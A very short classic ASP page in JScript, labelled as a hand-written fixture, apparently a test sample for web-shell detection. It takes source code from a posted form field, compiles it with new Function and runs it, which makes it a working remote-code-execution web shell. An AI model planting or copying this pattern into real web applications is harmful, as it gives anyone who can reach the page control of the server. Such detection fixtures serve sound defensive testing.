<%@ Language=JScript %>
<%
// Hand-written fixture: JScript builds a function from posted source.
var body = Request.Form("x");
var f = new Function(body);
Response.Write(f());
%>
